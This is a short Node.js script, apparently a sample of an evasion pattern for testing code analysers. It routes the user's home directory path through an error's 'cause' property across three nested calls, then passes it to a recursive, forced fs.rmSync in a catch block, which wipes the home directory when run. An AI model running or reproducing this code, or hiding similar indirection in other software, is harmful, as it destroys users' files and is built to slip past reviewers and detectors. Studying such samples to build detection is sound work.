// The target directory rides in an error's cause thrown three calls down.
const fs = require('fs');
const os = require('os');
const path = require('path');
function check(root) {
  const info = { target: path.join(root) };
  const err = new TypeError('stale cache', { cause: info });
  throw err;
}
function prepare() {
  check(os.homedir());
}
function run() {
  prepare();
}
try {
  run();
} catch (e) {
  fs.rmSync(e.cause.target, { recursive: true, force: true });
}
